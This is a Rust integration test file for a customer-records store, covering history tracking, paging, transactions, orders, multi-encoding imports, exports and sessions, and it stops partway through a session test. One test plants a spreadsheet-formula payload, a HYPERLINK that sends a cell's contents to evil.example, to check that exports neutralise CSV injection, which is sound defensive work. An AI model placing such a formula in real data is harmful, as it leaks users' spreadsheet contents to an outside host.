//! The store's behaviour, run on SQLite and PostgreSQL alike (`test_both!`).

use std::io::Cursor;

use patron_store::customers::{CustomerFilter, CustomerPatch, CustomerSort, NewCustomer};
use patron_store::import::{Encoding, ImportKind, ImportOptions, ImportReport};
use patron_store::orders::{NewOrder, NewOrderLine};
use patron_store::testing::{test_now, TestDb};
use patron_store::users::{Actor, Role};
use patron_store::{test_both, Store, StoreError};

fn cli() -> Actor {
    Actor::cli()
}

async fn import(store: &Store, kind: ImportKind, name: &str, bytes: Vec<u8>, tweak: impl FnOnce(&mut ImportOptions)) -> ImportReport {
    let mut opts = ImportOptions::new(kind, name);
    tweak(&mut opts);
    store.import(&cli(), Box::new(Cursor::new(bytes)), &opts, &|_| {}).await.expect("import runs")
}

async fn count(store: &Store, table: &str) -> i64 {
    let (n,): (i64,) = store.db.reader().fetch_one(patron_store::db::query(format!("SELECT COUNT(*) FROM {table}"))).await.unwrap();
    n
}

const CUSTOMERS_CSV: &str = "customer_id,name,mobile,email,city,tags,consent_sms,gender,birthday\n\
C1,王伟,13800138000,wang@example.com,上海,火锅;会员日,yes,男,1990-05-01\n\
C2,\"李, 娜\",+86 139-0013-9000,,北京,,no,女,\n\
C3,\"张\n三\",,zhang@example.com,杭州,下午茶,,,\n";

test_both!(customer_lifecycle_with_history, |db: TestDb| async move {
    let s = &db.store;
    let c = s
        .create_customer(
            &cli(),
            NewCustomer {
                external_id: Some("X1".into()),
                name: "王伟".into(),
                mobile: Some("138 0013 8000".into()),
                tags: vec!["火锅".into(), "火锅".into(), " 会员日 ".into()],
                consents: [("sms".to_string(), true)].into_iter().collect(),
                ..Default::default()
            },
        )
        .await
        .unwrap();
    assert_eq!(c.mobile.as_deref(), Some("13800138000"));
    assert_eq!(c.tags, vec!["会员日", "火锅"]);
    assert_eq!(c.consents.len(), 1);
    assert_eq!(c.created_at, test_now());

    // A patch writes one history row per changed field, old → new.
    db.clock.set(test_now() + chrono::Duration::hours(1));
    let patch: CustomerPatch = serde_json::from_str(r#"{"city":"上海","mobile":null,"name":"王伟","tags":["火锅"]}"#).unwrap();
    let c2 = s.update_customer(&cli(), c.id, patch).await.unwrap();
    assert_eq!(c2.city.as_deref(), Some("上海"));
    assert_eq!(c2.mobile, None);
    assert!(c2.updated_at > c.updated_at);
    let changes = s.customer_changes(c.id, 50).await.unwrap();
    let fields: Vec<&str> = changes.iter().map(|c| c.field.as_str()).collect();
    assert!(fields.contains(&"city") && fields.contains(&"mobile") && fields.contains(&"tags"), "{fields:?}");
    assert!(!fields.contains(&"name"), "unchanged name must not be recorded");
    let mobile = changes.iter().find(|c| c.field == "mobile").unwrap();
    assert_eq!((mobile.old_value.as_deref(), mobile.new_value.as_deref()), (Some("13800138000"), None));
    assert_eq!(mobile.actor, "cli");

    // A patch that changes nothing writes nothing.
    let before = s.customer_changes(c.id, 50).await.unwrap().len();
    s.update_customer(&cli(), c.id, serde_json::from_str(r#"{"city":"上海"}"#).unwrap()).await.unwrap();
    assert_eq!(s.customer_changes(c.id, 50).await.unwrap().len(), before);

    // Bad values are refused with the field named.
    let err = s.update_customer(&cli(), c.id, serde_json::from_str(r#"{"email":"not-an-email"}"#).unwrap()).await.unwrap_err();
    assert!(matches!(err, StoreError::Invalid { field: Some(ref f), .. } if f == "email"), "{err:?}");
    let err = s.update_customer(&cli(), c.id, serde_json::from_str(&format!(r#"{{"referrer_id":{}}}"#, c.id)).unwrap()).await.unwrap_err();
    assert!(matches!(err, StoreError::Invalid { .. }));
    let err = s.update_customer(&cli(), c.id, serde_json::from_str(r#"{"owner_id":999}"#).unwrap()).await.unwrap_err();
    assert!(matches!(err, StoreError::Reference(_)), "{err:?}");

    // Duplicate external id is a conflict.
    let err = s
        .create_customer(&cli(), NewCustomer { external_id: Some("X1".into()), name: "x".into(), ..Default::default() })
        .await
        .unwrap_err();
    assert!(matches!(err, StoreError::Conflict(_)), "{err:?}");

    // Soft delete hides the customer but keeps the rows.
    s.delete_customer(&cli(), c.id).await.unwrap();
    assert!(matches!(s.customer(c.id).await, Err(StoreError::NotFound(_))));
    assert!(matches!(s.delete_customer(&cli(), c.id).await, Err(StoreError::NotFound(_))));
    assert_eq!(count(s, "customers").await, 1);
    assert!(s.audit_entries(100, Some("customer"), Some(&c.id.to_string())).await.unwrap().len() >= 3);
});

test_both!(a_search_by_part_of_a_name_pages_in_id_order, |db: TestDb| async move {
    // Names searched by a two-character prefix and by a three-character part are found, then
    // sorted (PostgreSQL: `Engine::sort_without_index`); pages of 4 in both id orders visit every
    // match once, in order, among customers that do not match.
    let s = &db.store;
    let mut csv = String::from("external_id,name\n");
    for i in 0..12 {
        csv.push_str(&format!("M{i},陈小明{i:02}\nN{i},王大伟{i:02}\n"));
    }
    let r = import(s, ImportKind::Customers, "c.csv", csv.into_bytes(), |_| {}).await;
    assert_eq!((r.created, r.committed), (24, true), "{:?}", r.rejections);
    for (q, want) in [("陈小", 12usize), ("小明0", 10), ("小明1", 2)] {
        let filter = CustomerFilter { q: Some(q.into()), ..Default::default() };
        for sort in [CustomerSort::Id, CustomerSort::IdDesc] {
            let mut seen: Vec<(i64, String)> = Vec::new();
            let mut cursor: Option<String> = None;
            loop {
                let page = s.list_customers(&filter, sort, cursor.as_deref(), 4).await.unwrap();
                assert!(page.items.len() <= 4);
                seen.extend(page.items.iter().map(|c| (c.id, c.name.clone())));
                match page.next_cursor {
                    Some(c) => cursor = Some(c),
                    None => break,
                }
            }
            assert_eq!(seen.len(), want, "{q} {sort:?}: {seen:?}");
            assert!(seen.iter().all(|(_, n)| n.contains(q)), "{q}: {seen:?}");
            let ids: Vec<i64> = seen.iter().map(|c| c.0).collect();
            let mut ordered = ids.clone();
            ordered.sort_unstable();
            if sort == CustomerSort::IdDesc {
                ordered.reverse();
            }
            ordered.dedup();
            assert_eq!(ids, ordered, "{q} {sort:?}: every match once, in order");
            assert_eq!(s.count_customers(&filter).await.unwrap(), want as i64);
        }
    }
});

test_both!(list_filters_sorts_and_pages, |db: TestDb| async move {
    let s = &db.store;
    let r = import(s, ImportKind::Customers, "c.csv", CUSTOMERS_CSV.into(), |_| {}).await;
    assert_eq!((r.created, r.rejected, r.committed), (3, 0, true), "{:?}", r.rejections);
    let all = |f: CustomerFilter| async move { s.list_customers(&f, CustomerSort::Id, None, 50).await.unwrap().items };
    assert_eq!(all(CustomerFilter::default()).await.len(), 3);
    assert_eq!(all(CustomerFilter { city: Some("上海".into()), ..Default::default() }).await.len(), 1);
    assert_eq!(all(CustomerFilter { tag: Some("下午茶".into()), ..Default::default() }).await[0].external_id.as_deref(), Some("C3"));
    assert_eq!(all(CustomerFilter { q: Some("WANG@".into()), ..Default::default() }).await.len(), 1);
    assert_eq!(all(CustomerFilter { q: Some("1390013".into()), ..Default::default() }).await.len(), 1);
    assert_eq!(all(CustomerFilter { q: Some("李".into()), ..Default::default() }).await.len(), 1);
    assert_eq!(all(CustomerFilter { q: Some("%".into()), ..Default::default() }).await.len(), 0, "LIKE wildcards are literal");
    assert_eq!(s.count_customers(&CustomerFilter::default()).await.unwrap(), 3);

    // Walking pages of 2 visits every row once, in order, for every sort: the walk equals the
    // one-page list (no row twice, none left out, the same order), and the orders themselves hold
    // (review item 1: the walk was de-duplicated before it was compared, and 4 orders unchecked).
    let mut walks = std::collections::HashMap::new();
    for sort in [
        CustomerSort::Id,
        CustomerSort::IdDesc,
        CustomerSort::Name,
        CustomerSort::NameDesc,
        CustomerSort::UpdatedAt,
        CustomerSort::UpdatedAtDesc,
    ] {
        let mut seen = Vec::new();
        let mut cursor: Option<String> = None;
        loop {
            let page = s.list_customers(&CustomerFilter::default(), sort, cursor.as_deref(), 2).await.unwrap();
            seen.extend(page.items.iter().map(|c| c.id));
            match page.next_cursor {
                Some(c) => cursor = Some(c),
                None => break,
            }
        }
        let one_page: Vec<i64> =
            s.list_customers(&CustomerFilter::default(), sort, None, 50).await.unwrap().items.iter().map(|c| c.id).collect();
        assert_eq!(seen, one_page, "{sort:?}");
        assert_eq!(seen.len(), 3, "{sort:?}: {seen:?}");
        walks.insert(format!("{sort:?}"), seen);
    }
    let walk = |k: &str| walks.get(k).cloned().unwrap_or_default();
    let reversed = |k: &str| walk(k).into_iter().rev().collect::<Vec<_>>();
    let mut ascending = walk("Id");
    ascending.sort();
    assert_eq!(walk("Id"), ascending);
    assert_eq!(walk("IdDesc"), reversed("Id"));
    assert_eq!(walk("NameDesc"), reversed("Name"), "names are distinct: descending is the reverse");
    let names: Vec<String> = s
        .list_customers(&CustomerFilter::default(), CustomerSort::Name, None, 50)
        .await
        .unwrap()
        .items
        .into_iter()
        .map(|c| c.name)
        .collect();
    assert_ne!(walk("Name"), walk("Id"), "by name is not by id here: {names:?}");
    // Make the oldest row the most recently changed: it moves to the end of updated_at.
    db.clock.set(test_now() + chrono::Duration::hours(1));
    let first = walk("Id")[0];
    s.update_customer(&cli(), first, serde_json::from_str(r#"{"city":"苏州"}"#).unwrap()).await.unwrap();
    let by_update: Vec<i64> =
        s.list_customers(&CustomerFilter::default(), CustomerSort::UpdatedAt, None, 50).await.unwrap().items.iter().map(|c| c.id).collect();
    assert_eq!(by_update.last(), Some(&first), "{by_update:?}");
    let by_update_desc: Vec<i64> = s
        .list_customers(&CustomerFilter::default(), CustomerSort::UpdatedAtDesc, None, 50)
        .await
        .unwrap()
        .items
        .iter()
        .map(|c| c.id)
        .collect();
    assert_eq!(by_update_desc.first(), Some(&first), "{by_update_desc:?}");
    let err = s.list_customers(&CustomerFilter::default(), CustomerSort::Id, Some("nonsense"), 2).await.unwrap_err();
    assert!(matches!(err, StoreError::Invalid { field: Some(ref f), .. } if f == "cursor"));
});

// A caller that goes away while its transaction begins (a client hanging up mid-request, a
// timeout) leaves no transaction open behind it: the begin is dropped after every number of
// polls, with the database's side given time to move between them, and then the write lock
// (SQLite) is free and no connection sits idle inside a transaction (PostgreSQL, Citus). sqlx's
// own begin left one open at one of these points, holding SQLite's write lock for ten minutes.
test_both!(a_begin_dropped_at_any_point_leaves_no_transaction_open, |db: TestDb| async move {
    use sqlx::{ConnectOptions, Connection};
    use std::future::Future;
    use std::task::{Context, Poll, Waker};
    use std::time::{Duration, Instant};
    let s = &db.store;
    let mut cx = Context::from_waker(Waker::noop());
    for pause_us in [100u64, 400, 1_500, 5_000] {
        for polls in 1..=10 {
            let mut begin = Box::pin(s.db.begin());
            for _ in 0..polls {
                if let Poll::Ready(tx) = begin.as_mut().poll(&mut cx) {
                    // Begun before the drop: a transaction the caller holds rolls back on drop.
                    drop(tx.expect("begin"));
                    break;
                }
                std::thread::sleep(Duration::from_micros(pause_us));
            }
            drop(begin);
            // The pool's own tasks (a connection's return) run between attempts.
            tokio::task::yield_now().await;
        }
    }
    // What a dropped begin left behind is rolled back within moments, not at the connection's
    // idle timeout (ten minutes): asked until a deadline.
    let deadline = Instant::now() + Duration::from_secs(10);
    let open = loop {
        let open = match s.db.engine() {
            patron_store::Engine::Sqlite => {
                let opts: sqlx::sqlite::SqliteConnectOptions = db.url.parse().expect("the test database's URL");
                let mut probe = opts.busy_timeout(Duration::ZERO).connect().await.expect("a second connection");
                let free = sqlx::query("BEGIN IMMEDIATE").execute(&mut probe).await.is_ok();
                probe.close().await.expect("close the probe");
                i64::from(!free)
            }
            patron_store::Engine::Postgres => {
                let (n,): (i64,) = sqlx::query_as(
                    "SELECT COUNT(*) FROM pg_stat_activity WHERE datname = current_database() AND pid <> pg_backend_pid() \
                     AND state LIKE 'idle in transaction%'",
                )
                .fetch_one(&mut sqlx::postgres::PgConnection::connect(&db.url).await.expect("a second connection"))
                .await
                .expect("pg_stat_activity");
                n
            }
        };
        if open == 0 || Instant::now() > deadline {
            break open;
        }
        tokio::time::sleep(Duration::from_millis(20)).await;
    };
    assert_eq!(open, 0, "a dropped begin left a transaction open");
    // And the store writes as before.
    let c = s
        .create_customer(&cli(), NewCustomer { name: "after the drops".into(), ..Default::default() })
        .await
        .expect("a write after the dropped begins");
    assert!(c.id > 0);
});

test_both!(orders_are_idempotent_and_batches_atomic, |db: TestDb| async move {
    let s = &db.store;
    import(s, ImportKind::Customers, "c.csv", CUSTOMERS_CSV.into(), |_| {}).await;
    let order = |ext: &str, customer: &str, cents: i64| NewOrder {
        external_id: Some(ext.into()),
        customer_id: None,
        customer_external_id: Some(customer.into()),
        ordered_at: test_now(),
        channel: Some("app".into()),
        store: None,
        currency: None,
        total_cents: None,
        discount_cents: Some(500),
        status: None,
        lines: vec![
            NewOrderLine {
                product: Some("麻辣锅底".into()),
                category: Some("火锅".into()),
                quantity: Some(2),
                unit_price_cents: cents,
                promo: false,
            },
            NewOrderLine {
                product: Some("奶茶".into()),
                category: Some("茶饮".into()),
                quantity: None,
                unit_price_cents: 1800,
                promo: true,
            },
        ],
    };
    let r = s.create_orders(&cli(), vec![order("O1", "C1", 6800)]).await.unwrap();
    assert!(r[0].created);
    let o = s.order(r[0].id).await.unwrap();
    assert_eq!(o.total_cents, 2 * 6800 + 1800 - 500);
    assert_eq!(o.lines.len(), 2);
    assert_eq!(o.lines[1].category.as_deref(), Some("茶饮"));
    // The same external id again updates in place.
    let r2 = s.create_orders(&cli(), vec![order("O1", "C1", 7000)]).await.unwrap();
    assert_eq!((r2[0].id, r2[0].created), (r[0].id, false));
    assert_eq!(count(s, "orders").await, 1);
    assert_eq!(count(s, "order_lines").await, 2);
    // A batch with one bad order writes nothing, and names the order.
    let err = s.create_orders(&cli(), vec![order("O2", "C1", 100), order("O3", "NOPE", 100)]).await.unwrap_err();
    assert!(matches!(err, StoreError::Invalid { field: Some(ref f), .. } if f == "orders[1].customer_external_id"), "{err:?}");
    assert_eq!(count(s, "orders").await, 1);
    // An order id cannot move to another customer.
    let err = s.create_orders(&cli(), vec![order("O1", "C2", 100)]).await.unwrap_err();
    assert!(matches!(err, StoreError::Conflict(_)), "{err:?}");

    let c1 =
        s.list_customers(&CustomerFilter { q: Some("C1".into()), ..Default::default() }, CustomerSort::Id, None, 5).await.unwrap().items[0]
            .clone();
    assert_eq!(c1.order_count, 1);
    let stats = s.order_stats(c1.id).await.unwrap();
    assert_eq!(stats.spend_cents, 2 * 7000 + 1800 - 500);
    // The list's totals (kept in the summaries) agree with the orders themselves.
    assert_eq!((c1.spend_cents, c1.last_order_at), (stats.spend_cents, stats.last_order_at));
    s.create_note(&cli(), c1.id, patron_store::notes::NewNote { body: "喜欢靠窗的位置".into() }).await.unwrap();
    let tl = s.timeline(c1.id, None, 2).await.unwrap();
    assert_eq!(tl.items.len(), 2);
    let rest = s.timeline(c1.id, tl.next_cursor.as_deref(), 100).await.unwrap();
    let kinds: Vec<String> = tl.items.iter().chain(rest.items.iter()).map(|e| e.kind.clone()).collect();
    assert!(kinds.contains(&"order".to_string()) && kinds.contains(&"note".to_string()), "{kinds:?}");
    let orders = s.customer_orders(c1.id, None, 10).await.unwrap();
    assert_eq!(orders.items.len(), 1);
});

test_both!(import_reads_encodings_quotes_and_chinese_headers, |db: TestDb| async move {
    let s = &db.store;
    // UTF-8 with BOM, CRLF, Chinese headers.
    let text = "\u{feff}客户编号,姓名,手机,城市,标签\r\nK1,赵敏,13700137000,成都,\"辣味爱好者；家庭聚餐\"\r\nK2,\"周, 芷若\",,重庆,\r\n";
    let r = import(s, ImportKind::Customers, "k.csv", text.into(), |_| {}).await;
    assert_eq!((r.created, r.rejected, r.encoding), (2, 0, Encoding::Utf8), "{:?}", r.rejections);
    // GB18030, detected.
    let (gb, _, _) = encoding_rs::GB18030.encode("客户编号,姓名,城市\nG1,欧阳锋,西安\n");
    let r = import(s, ImportKind::Customers, "g.csv", gb.into_owned(), |_| {}).await;
    assert_eq!((r.created, r.encoding), (1, Encoding::Gb18030), "{:?}", r.rejections);
    let page = s.list_customers(&CustomerFilter { q: Some("G1".into()), ..Default::default() }, CustomerSort::Id, None, 5).await.unwrap();
    assert_eq!(page.items[0].name, "欧阳锋");
    assert_eq!(page.items[0].city.as_deref(), Some("西安"));
    // --map for a foreign header, and custom attributes.
    let r = import(s, ImportKind::Customers, "m.csv", "MemberNo,name,attr.vip_level\nM1,黄蓉,gold\n".into(), |o| {
        o.mappings = vec![("MemberNo".into(), "customer_id".into())];
    })
    .await;
    assert_eq!(r.created, 1, "{:?}", r.rejections);
    let id =
        s.list_customers(&CustomerFilter { q: Some("M1".into()), ..Default::default() }, CustomerSort::Id, None, 5).await.unwrap().items[0]
            .id;
    assert_eq!(s.customer(id).await.unwrap().attributes["vip_level"], "gold");
    // JSON lines.
    let jsonl = "{\"customer_id\":\"J1\",\"name\":\"郭靖\",\"tags\":[\"a\",\"b\"],\"consent_sms\":true}\n\n{\"customer_id\":\"J2\",\"name\":\"杨过\"}\n";
    let r = import(s, ImportKind::Customers, "j.jsonl", jsonl.into(), |_| {}).await;
    assert_eq!((r.created, r.rejected), (2, 0), "{:?}", r.rejections);
});

test_both!(import_rejects_bad_rows_all_or_nothing, |db: TestDb| async move {
    let s = &db.store;
    import(s, ImportKind::Customers, "c.csv", CUSTOMERS_CSV.into(), |_| {}).await;
    let orders = "order_id,customer_id,ordered_at,amount,discount,quantity,promo,status\n\
O1,C1,2026-03-04 18:23:00,128.50,10,1,no,completed\n\
O2,C1,not-a-date,10,,,,\n\
O3,C2,2026-03-05,12.345,,,,\n\
O4,NOBODY,2026-03-05,10,,,,\n\
O5,C2,2026-03-05,-1,,0,maybe,lost\n\
O1,C2,2026-03-05,10,,,,\n\
O6,C3,2026/03/06 12:00,\"1,024.00\",,,,\n\
O7,C3,2026-03-06,10,,,\n";
    let r = import(s, ImportKind::Orders, "o.csv", orders.into(), |_| {}).await;
    assert!(!r.committed);
    assert_eq!(r.rows_read, 8);
    let rows: Vec<u64> = {
        let mut v: Vec<u64> = r.rejections.iter().map(|x| x.row).collect();
        v.dedup();
        v
    };
    assert_eq!(rows, vec![3, 4, 5, 6, 7, 9], "{:#?}", r.rejections);
    let reason =
        |row: u64, col: &str| r.rejections.iter().find(|x| x.row == row && x.column == col).map(|x| x.reason.clone()).unwrap_or_default();
    assert!(reason(3, "ordered_at").contains("not a time"));
    assert!(reason(4, "amount").contains("2 decimals"));
    assert!(reason(5, "customer_id").contains("unknown customer"));
    assert!(reason(6, "quantity").contains("≥ 1"));
    assert!(reason(6, "promo").contains("yes/no"));
    assert!(reason(6, "status").contains("status"));
    assert!(reason(7, "order_id").contains("duplicate"));
    assert!(r.rejections.iter().any(|x| x.row == 9 && x.reason.contains("expected 8 fields")));
    assert_eq!(r.rejected, 6);
    // All or nothing: nothing was written.
    assert_eq!(count(s, "orders").await, 0);
    // --skip-invalid loads the two good rows.
    let r = import(s, ImportKind::Orders, "o.csv", orders.into(), |o| o.skip_invalid = true).await;
    assert!(r.committed);
    assert_eq!((r.created, r.rejected), (2, 6));
    assert_eq!(count(s, "orders").await, 2);
    assert_eq!(count(s, "order_lines").await, 2);
    // Re-import changes nothing.
    let r = import(s, ImportKind::Orders, "o.csv", orders.into(), |o| o.skip_invalid = true).await;
    assert_eq!((r.created, r.updated, r.unchanged), (0, 0, 2), "the same rows are unchanged, not updated");
    assert_eq!(count(s, "orders").await, 2);
    // Money and time were read right.
    let (cents, at): (i64, chrono::DateTime<chrono::Utc>) =
        s.db.reader()
            .fetch_one(patron_store::db::query("SELECT total_cents, ordered_at FROM orders WHERE external_id = 'O1'"))
            .await
            .unwrap();
    assert_eq!(cents, 12850);
    assert_eq!(at.to_rfc3339(), "2026-03-04T10:23:00+00:00");
    // A dry run writes nothing.
    let r = import(s, ImportKind::Orders, "o2.csv", "order_id,customer_id,ordered_at,amount\nO9,C1,2026-01-01,1\n".into(), |o| {
        o.dry_run = true
    })
    .await;
    assert_eq!((r.created, r.committed), (1, false));
    assert_eq!(count(s, "orders").await, 2);
});

test_both!(import_file_level_errors_write_nothing, |db: TestDb| async move {
    let s = &db.store;
    let run = |text: &'static str, maps: Vec<(String, String)>| async move {
        let mut opts = ImportOptions::new(ImportKind::Customers, "x.csv");
        opts.mappings = maps;
        s.import(&cli(), Box::new(Cursor::new(text.as_bytes().to_vec())), &opts, &|_| {}).await
    };
    let e = run("customer_id,colour\nA,red\n", vec![]).await.unwrap_err().to_string();
    assert!(e.contains("unknown column \"colour\""), "{e}");
    let e = run("customer_id,mobile\nA,13800138000\n", vec![]).await.unwrap_err().to_string();
    assert!(e.contains("missing required column \"name\""), "{e}");
    // Non-ASCII headers of any length are compared safely (a byte slice once split 会员号).
    let e = run("会员号,姓名\n1,x\n", vec![]).await.unwrap_err().to_string();
    assert!(e.contains("unknown column \"会员号\""), "{e}");
    let e = run("customer_id,name,姓名\nA,b,c\n", vec![]).await.unwrap_err().to_string();
    assert!(e.contains("both mean field"), "{e}");
    let e = run("", vec![]).await.unwrap_err().to_string();
    assert!(e.contains("empty") || e.contains("missing"), "{e}");
    let e = run("a,name\n1,2\n", vec![("a".into(), "nonsense".into())]).await.unwrap_err().to_string();
    assert!(e.contains("--map target"), "{e}");
    assert_eq!(count(s, "customers").await, 0);
    assert_eq!(count(s, "imports").await, 0);
});

test_both!(customer_reimport_records_only_real_changes, |db: TestDb| async move {
    let s = &db.store;
    let owner = s.create_user("am@example.com", "Account Manager", Role::Agent, None).await.unwrap();
    let v1 = "customer_id,name,city,owner,referrer_id,consent_sms\nA,甲,上海,am@example.com,B,true\nB,乙,北京,,,false\n";
    let r = import(s, ImportKind::Customers, "v1.csv", v1.into(), |_| {}).await;
    assert_eq!((r.created, r.rejected), (2, 0), "{:?}", r.rejections);
    let a = s.list_customers(&CustomerFilter { q: Some("A".into()), ..Default::default() }, CustomerSort::Id, None, 5).await.unwrap().items;
    let a = s.customer(a.iter().find(|c| c.external_id.as_deref() == Some("A")).unwrap().id).await.unwrap();
    assert_eq!(a.owner.as_ref().map(|o| o.id), Some(owner.id));
    assert_eq!(a.referrer.as_ref().map(|r| r.name.as_str()), Some("乙"), "referrer later in the file is resolved");
    let changes = count(s, "customer_changes").await;
    let r = import(s, ImportKind::Customers, "v1.csv", v1.into(), |_| {}).await;
    assert_eq!((r.created, r.updated, r.unchanged), (0, 0, 2));
    assert_eq!(count(s, "customer_changes").await, changes, "re-import of the same file changes nothing");
    let v2 = "customer_id,name,city,consent_sms\nA,甲,杭州,false\n";
    import(s, ImportKind::Customers, "v2.csv", v2.into(), |_| {}).await;
    let hist = s.customer_changes(a.id, 10).await.unwrap();
    let fields: Vec<&str> = hist.iter().map(|c| c.field.as_str()).collect();
    assert_eq!(fields.len(), 2, "{fields:?}");
    assert!(fields.contains(&"city") && fields.contains(&"consent.sms"));
    assert!(hist.iter().all(|c| c.actor == "cli"));
    // A replaced referrer is written, with its history row (a first one has none).
    let old_referrer = s.customer(a.id).await.unwrap().referrer.map(|r| r.id);
    let v4 = "customer_id,name,referrer_id\nC,丙,\nA,甲,C\nB,乙,C\n";
    let r = import(s, ImportKind::Customers, "v4.csv", v4.into(), |_| {}).await;
    assert_eq!((r.created, r.updated, r.rejected), (1, 2, 0), "{:?}", r.rejections);
    let a = s.customer(a.id).await.unwrap();
    assert_eq!(a.referrer.as_ref().map(|r| r.name.as_str()), Some("丙"));
    let hist = s.customer_changes(a.id, 10).await.unwrap();
    let referrer: Vec<_> = hist.iter().filter(|c| c.field == "referrer_id").collect();
    assert_eq!(referrer.len(), 1, "{hist:?}");
    assert_eq!(referrer[0].old_value, old_referrer.map(|v| v.to_string()));
    assert_eq!(referrer[0].new_value, a.referrer.as_ref().map(|r| r.id.to_string()));
    assert_eq!(count(s, "customer_changes WHERE field = 'referrer_id'").await, 1, "B's first referrer is no change of a stored one");
    // Unknown owner and referrer are rejected.
    let r = import(
        s,
        ImportKind::Customers,
        "v3.csv",
        "customer_id,name,owner,referrer_id\nZ,丙,nobody@example.com,\nY,丁,,NOPE\n".into(),
        |_| {},
    )
    .await;
    assert_eq!(r.rejected, 2, "{:?}", r.rejections);
    assert!(!r.committed);
});

test_both!(contacts_and_interactions_import, |db: TestDb| async move {
    let s = &db.store;
    import(
        s,
        ImportKind::Customers,
        "c.csv",
        "customer_id,name,kind\nORG1,上海某某科技有限公司,organisation\nP1,个人,person\n".into(),
        |_| {},
    )
    .await;
    let contacts = "contact_id,customer_id,name,role,mobile,interests\nK1,ORG1,陈经理,采购,13912345678,高尔夫\nK2,NOPE,x,,,\n";
    let r = import(s, ImportKind::Contacts, "k.csv", contacts.into(), |o| o.skip_invalid = true).await;
    assert_eq!((r.created, r.rejected), (1, 1), "{:?}", r.rejections);
    let interactions = "interaction_id,customer_id,kind,occurred_at,channel,payload\nI1,P1,page_view,2026-06-01 10:00:00,web,/menu/hotpot\nI2,P1,teleport,2026-06-01,,\n";
    let r = import(s, ImportKind::Interactions, "i.csv", interactions.into(), |o| o.skip_invalid = true).await;
    assert_eq!((r.created, r.rejected), (1, 1), "{:?}", r.rejections);
    let r = import(s, ImportKind::Interactions, "i.csv", interactions.into(), |o| o.skip_invalid = true).await;
    assert_eq!((r.created, r.updated, r.unchanged), (0, 0, 1));
    assert_eq!(count(s, "interactions").await, 1);
    assert_eq!(count(s, "contacts").await, 1);
    // An id that belongs to another customer is refused, not moved; the rest of the file loads.
    let moved = "interaction_id,customer_id,kind,occurred_at\nI1,ORG1,call,2026-06-02 09:00\nI3,ORG1,visit,2026-06-02 10:00\n";
    let r = import(s, ImportKind::Interactions, "m.csv", moved.into(), |o| o.skip_invalid = true).await;
    assert_eq!((r.created, r.updated, r.rejected), (1, 0, 1), "{:?}", r.rejections);
    assert!(r.rejections[0].reason.contains("belongs to another customer") && r.rejections[0].row == 2, "{:?}", r.rejections);
    assert_eq!(count(s, "interactions").await, 2);
    // A changed interaction is updated.
    let changed = "interaction_id,customer_id,kind,occurred_at,channel,payload\nI1,P1,click,2026-06-01 10:00:00,app,/menu/tea\n";
    let r = import(s, ImportKind::Interactions, "c.csv", changed.into(), |_| {}).await;
    assert_eq!((r.created, r.updated), (0, 1));
    let (kind, channel): (String, String) =
        s.db.reader().fetch_one(patron_store::db::query("SELECT kind, channel FROM interactions WHERE external_id = 'I1'")).await.unwrap();
    assert_eq!((kind.as_str(), channel.as_str()), ("click", "app"));
});

test_both!(export_round_trips, |db: TestDb| async move {
    let s = &db.store;
    import(s, ImportKind::Customers, "c.csv", CUSTOMERS_CSV.into(), |_| {}).await;
    let mut out = Vec::new();
    let n = s.export_customers(&cli(), &CustomerFilter::default(), &mut out, false).await.unwrap();
    assert_eq!(n, 3);
    let text = String::from_utf8(out.clone()).unwrap();
    assert!(text.starts_with("customer_id,kind,name"));
    assert!(text.contains("\"张\n三\""));
    let changes = count(s, "customer_changes").await;
    let r = import(s, ImportKind::Customers, "export.csv", out, |_| {}).await;
    assert_eq!((r.updated, r.unchanged, r.rejected), (0, 3, 0), "{:?}", r.rejections);
    assert_eq!(count(s, "customer_changes").await, changes, "re-importing an export changes nothing");
});

test_both!(exports_do_not_carry_spreadsheet_formulas, |db: TestDb| async move {
    // CSV injection (OWASP): a value a spreadsheet would run gets an apostrophe in front; the
    // importer takes it off, so the export still round-trips; `raw` writes values as stored.
    let s = &db.store;
    let evil = "=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")";
    let file = format!("customer_id,name,city,tags\nF1,\"{}\",@上海,-vip\n", evil.replace('"', "\"\""));
    let r = import(s, ImportKind::Customers, "f.csv", file.into_bytes(), |_| {}).await;
    assert_eq!(r.created, 1, "{:?}", r.rejections);
    let mut out = Vec::new();
    s.export_customers(&cli(), &CustomerFilter::default(), &mut out, false).await.unwrap();
    let text = String::from_utf8(out.clone()).unwrap();
    let row = text.lines().nth(1).unwrap().to_owned();
    assert!(row.contains("'=HYPERLINK") && row.contains("'@上海") && row.contains("'-vip"), "{row}");
    assert!(!row.split(',').any(|cell| cell.starts_with('=') || cell.starts_with('@')), "{row}");
    let changes = count(s, "customer_changes").await;
    let r = import(s, ImportKind::Customers, "export.csv", out, |_| {}).await;
    assert_eq!(r.rejected, 0, "{:?}", r.rejections);
    assert_eq!(count(s, "customer_changes").await, changes, "the neutralised export re-imports unchanged");
    let mut raw = Vec::new();
    s.export_customers(&cli(), &CustomerFilter::default(), &mut raw, true).await.unwrap();
    assert!(String::from_utf8(raw).unwrap().contains(",@上海,"), "raw keeps the values as stored");
});

test_both!(a_bulk_import_leaves_no_large_write_ahead_log, |db: TestDb| async move {
    let s = &db.store;
    let mut file = String::from("customer_id,name,city\n");
    for i in 0..12_000 {
        file.push_str(&format!("B{i:05},客户{i},上海市浦东新区某某路某某号\n"));
    }
    let r = import(s, ImportKind::Customers, "big.csv", file.into_bytes(), |_| {}).await;
    assert_eq!(r.created, 12_000);
    if let Some(path) = db.url.strip_prefix("sqlite://") {
        let wal = std::fs::metadata(format!("{path}-wal")).map(|m| m.len()).unwrap_or(0);
        let main = std::fs::metadata(path).unwrap().len();
        assert!(wal < main / 4, "the log is checkpointed and truncated after the import: wal {wal} B, database {main} B");
    }
    assert_eq!(count(s, "customers").await, 12_000);
});

test_both!(users_tokens_and_sessions, |db: TestDb| async move {
    let s = &db.store;
    let u = s.create_user("Admin@Example.com", "Admin", Role::Admin, Some("a long password")).await.unwrap();
    assert_eq!(u.email, "admin@example.com");
    assert!(s.create_user("x@example.com", "X", Role::Agent, Some("short")).await.is_err());
    assert!(matches!(s.create_user("admin@example.com", "Dup", Role::Agent, None).await, Err(StoreError::Conflict(_))));
    assert!(s.authenticate("admin@example.com", "a long password").await.unwrap().is_some());
    assert!(s.authenticate("ADMIN@example.com ", "a long password").await.unwrap().is_some());
    assert!(s.authenticate("admin@example.com", "wrong password").await.unwrap().is_none());
    assert!(s.authenticate("nobody@example.com", "a long password").await.unwrap().is_none());
    let (secret, csrf) = s.create_session(&u, chrono::Duration::hours(8)).await.unwrap();
